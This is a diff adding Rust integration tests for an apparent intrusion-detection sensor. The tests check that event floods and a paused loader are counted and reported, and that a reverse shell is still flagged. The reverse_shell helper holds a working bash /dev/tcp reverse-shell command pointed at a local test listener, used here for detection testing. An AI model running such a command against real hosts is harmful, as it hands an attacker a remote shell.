@@ -1,0 +1,115 @@
+//! What happens when events come faster than they can be taken: all is counted, verdicts still
+//! come, and the operator is told.
+
+use std::{
+    process::{Child, Command, Stdio},
+    time::Duration,
+};
+
+use nix::sys::signal::Signal;
+use sentinel_tests::{
+    bed::Bed,
+    peer::Peer,
+    programs::compiled,
+    sentinel::{Outcome, Sentinel, send},
+};
+use serde_json::Value;
+
+fn flood(bed: &Bed, seconds: &str) -> Child {
+    let mut command = bed.command(compiled("flood"));
+    command.arg(seconds).stdin(Stdio::null()).stdout(Stdio::null()).spawn().unwrap()
+}
+
+/// A shell that connects out, and its attacker's end.
+fn reverse_shell(bed: &Bed) {
+    let peer = Peer::listen("127.0.0.1");
+    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
+    let mut command: Command = bed.command("bash");
+    let mut child = command.args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
+    peer.shell().exit();
+    child.wait().unwrap();
+}
+
+/// A number of the summary.
+fn told(outcome: &Outcome, what: &str) -> u64 {
+    let line = outcome.output.lines().find(|line| line.contains("after filter")).unwrap();
+    let number = line.split(what).nth(1).and_then(|rest| rest.split_whitespace().next());
+    number.unwrap().trim_end_matches(')').parse().unwrap()
+}
+
+fn named<'a>(outcome: &'a Outcome, name: &str) -> Vec<&'a Value> {
+    outcome.alerts.iter().filter(|alert| alert["pattern_name"] == name).collect()
+}
+
+/// Every record that passed the filter was emitted or is counted as lost, and none that verdicts
+/// rest on was.
+fn adds_up(outcome: &Outcome) {
+    let [passed, emitted, dropped, forwarded, processed] =
+        ["after filter ", "emitted ", "dropped ", "forwarded ", "processed "]
+            .map(|what| told(outcome, what));
+    assert_eq!(emitted + dropped, passed, "{}", outcome.output);
+    assert_eq!((forwarded, processed), (emitted, emitted), "{}", outcome.output);
+    assert_eq!(told(outcome, "urgent "), 0, "{}", outcome.output);
+}
+
+#[test]
+fn a_shell_in_the_middle_of_a_flood_is_found_and_everything_adds_up() {
+    let Some(bed) = Bed::new() else { return };
+    let sentinel = Sentinel::start(&bed, &[]);
+    let mut flood = flood(&bed, "10");
+    std::thread::sleep(Duration::from_secs(4));
+    reverse_shell(&bed);
+    assert!(flood.wait().unwrap().success());
+    // Its last telemetry may lie in the ring for so long.
+    std::thread::sleep(Duration::from_millis(300));
+    let outcome = sentinel.stop();
+    let shells = named(&outcome, "reverse_shell");
+    assert_eq!(shells.len(), 1, "{}", outcome.output);
+    assert_eq!(shells[0]["severity"], "critical");
+    assert!(told(&outcome, "after filter ") > 100_000, "{}", outcome.output);
+    adds_up(&outcome);
+    let dropped = told(&outcome, "dropped ");
+    assert_eq!(named(&outcome, "sensor_loss").is_empty(), dropped == 0, "{}", outcome.output);
+    assert!(shells[0]["gap_in_window"].as_u64().unwrap() <= dropped);
+}
+
+#[test]
+fn a_loader_that_was_stopped_for_a_second_tells_what_it_missed() {
+    let Some(bed) = Bed::new() else { return };
+    let sentinel = Sentinel::start(&bed, &[]);
+    send(sentinel.loader(), Signal::SIGSTOP);
+    let mut flood = flood(&bed, "1");
+    std::thread::sleep(Duration::from_millis(500));
+    reverse_shell(&bed);
+    assert!(flood.wait().unwrap().success());
+    send(sentinel.loader(), Signal::SIGCONT);
+    std::thread::sleep(Duration::from_secs(1));
+    let outcome = sentinel.stop();
+    let dropped = told(&outcome, "dropped ");
+    assert!(dropped > 0, "the flood was too small: {}", outcome.output);
+    adds_up(&outcome);
+    let losses = named(&outcome, "sensor_loss");
+    assert_eq!(losses.len(), 1, "{}", outcome.output);
+    assert_eq!(losses[0]["severity"], "warning");
+    let message = losses[0]["message"].as_str().unwrap();
+    assert!(message.starts_with(&format!("{dropped} events were lost (0 of")), "{message}");
+    // What was emitted tells of the shell, and that something is missing around it.
+    let shells = named(&outcome, "reverse_shell");
+    assert_eq!(shells.len(), 1, "{}", outcome.output);
+    assert_eq!(shells[0]["gap_in_window"].as_u64(), Some(dropped));
+    assert_eq!(outcome.alerts.len(), 2, "nothing that was not: {}", outcome.output);
+}
+
+#[test]
+fn a_loader_that_says_nothing_is_told() {
+    let Some(bed) = Bed::new() else { return };
+    let mut sentinel = Sentinel::start(&bed, &[]);
+    send(sentinel.loader(), Signal::SIGSTOP);
+    sentinel.wait_for("sensor_silent");
+    send(sentinel.loader(), Signal::SIGCONT);
+    std::thread::sleep(Duration::from_secs(1));
+    let outcome = sentinel.stop();
+    assert_eq!(named(&outcome, "sensor_silent").len(), 1, "{}", outcome.output);
+    assert_eq!(outcome.alerts[0]["severity"], "critical");
+    assert!(outcome.status.success());
+}
